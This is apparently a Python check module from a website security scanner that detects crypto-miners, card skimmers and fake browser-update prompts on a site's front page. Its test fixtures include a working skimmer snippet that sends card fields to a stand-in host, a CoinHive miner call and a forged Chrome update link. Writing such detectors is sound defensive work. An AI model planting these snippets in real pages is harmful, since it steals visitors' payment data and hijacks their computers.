"""No script on the front page harms visitors.

## What it does
Reads the scripts in the front page's markup for miners, for code that reads card or PIN fields and
sends them to another host, and for forged notices that offer a program as an update.

## Why it matters
The visitor's computer works for a stranger, or card data and passwords leave while the page looks as
always. Both come with a break-in.

## How to fix
Treat it as an incident: take the script out, find how it came in, rebuild from a clean source and
change all passwords.

## Limits
Only what stands in the front page itself is read; scripts that it loads from elsewhere are judged by
their name alone, and nothing is run.

## References
OWASP Top 10 2021, A08 (software and data integrity failures); BSSN Regulation 1/2024.
"""

from ronda.engine.artifacts import HTTP_VISITOR, PAGE_VISITOR, FailureKind
from ronda.engine.checks.contract import (
    Case,
    Evidence,
    Guidance,
    Meta,
    Outcome,
    Seen,
    Severity,
    Verdict,
    failed,
    passed,
)
from ronda.engine.checks.examples import failure, http, page
from ronda.engine.checks.helpers import clip, own_page
from ronda.engine.checks.legal import BSSN_INCIDENT, PERSONAL_DATA
from ronda.engine.content.scripts import harmful
from ronda.engine.text import Text

META = Meta(
    id="CONTENT.SCRIPT",
    area="content",
    title=Text("Tidak ada skrip berbahaya", "No script harms visitors"),
    problem=Text("Skrip berbahaya di halaman depan", "A harmful script on the front page"),
    finding_class="malicious-script",
    severity=Severity.CRITICAL,
    needs=(HTTP_VISITOR,),
    also=(PAGE_VISITOR,),
    legal=(BSSN_INCIDENT, PERSONAL_DATA),
    urgent=True,
    guidance=Guidance(
        why=Text(
            "Komputer pengunjung bekerja untuk orang lain, atau data kartunya terkirim keluar tanpa "
            "tanda apa pun. Keduanya berarti situs ini pernah dibobol.",
            "The visitor's computer works for a stranger, or card data leave without a sign. Both "
            "mean that this site was broken into.",
        ),
        steps=(
            Text(
                "Tutup situs, simpan salinan berkas dan catatan akses, lalu laporkan ke tim CSIRT.",
                "Take the site offline, keep files and access logs, and tell the CSIRT.",
            ),
            Text(
                "Hapus skrip yang kami sebutkan dan cari berkas lain yang berubah pada waktu sama.",
                "Delete the script that we name and look for other files changed at that time.",
            ),
            Text(
                "Pasang ulang dari sumber bersih dan ganti semua kata sandi.",
                "Rebuild from a clean source and change every password.",
            ),
        ),
        see_for_yourself=Text(
            "Buka situs, tekan Ctrl+U, lalu cari kata yang kami kutip.",
            "Open the site, press Ctrl+U, and search for the words that we quote.",
        ),
    ),
)
_WHAT = {
    "miner": Text(
        "Halaman depan menjalankan penambang kripto di komputer pengunjung.",
        "The front page runs a crypto-miner on the visitor's computer.",
    ),
    "skimmer": Text(
        "Skrip di halaman depan mengirim isian kartu atau PIN ke pihak lain.",
        "A script on the front page sends card or PIN fields to somebody else.",
    ),
    "update": Text(
        "Halaman depan menawarkan program berkedok pembaruan peramban.",
        "The front page offers a program disguised as a browser update.",
    ),
}


def judge(seen: Seen) -> Verdict:
    """Judge the scripts in the front page's markup; see the manual page above."""
    found = harmful(seen.http().body, seen.site.host)
    if found is None:
        own = own_page(seen)
        if isinstance(own, Verdict):
            return own
        return passed(
            Text("Tidak terlihat skrip yang berbahaya.", "No harmful script can be seen.")
        )
    where = Text("skrip di halaman depan", "script on the front page")
    return failed(_WHAT[found.what], Evidence(HTTP_VISITOR, where, clip(found.words)))


_SKIMMER = (
    "<script>document.querySelectorAll('input').forEach(i=>i.addEventListener('blur',()=>{"
    "if(/cvv|card_number/.test(i.name))fetch('https://statistik-jahat.example/k?d='+i.value)}))"
    "</script>"
)
_OWN = (
    "<script>form.addEventListener('submit',()=>fetch('https://dinas.contohprov.go.id/bayar',"
    "{method:'POST',body:card_number.value}))</script>"
)

CASES = (
    Case("A living site", {PAGE_VISITOR: page(), HTTP_VISITOR: http()}, Outcome.PASS),
    Case(
        "A payment form that sends to its own server",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_OWN)},
        Outcome.PASS,
    ),
    Case(
        "News about crypto-miners",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http("<p>Waspada coinhive dan cryptonight, kata Diskominfo.</p>"),
        },
        Outcome.PASS,
    ),
    Case(
        "A miner",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http("<script>new CoinHive.Anonymous('kunci').start()</script>"),
        },
        Outcome.FAIL,
        says="penambang",
    ),
    Case(
        "A skimmer",
        {PAGE_VISITOR: page(), HTTP_VISITOR: http(_SKIMMER)},
        Outcome.FAIL,
        says="kartu",
    ),
    Case(
        "A forged update",
        {
            PAGE_VISITOR: page(),
            HTTP_VISITOR: http(
                "<div>Versi Chrome Anda sudah usang</div><a href='/unduh/chrome_update.exe'>Perbarui</a>"
            ),
        },
        Outcome.FAIL,
        says="pembaruan",
    ),
    Case("No answer", {HTTP_VISITOR: failure(FailureKind.TIMEOUT)}, Outcome.NOT_MEASURED),
)
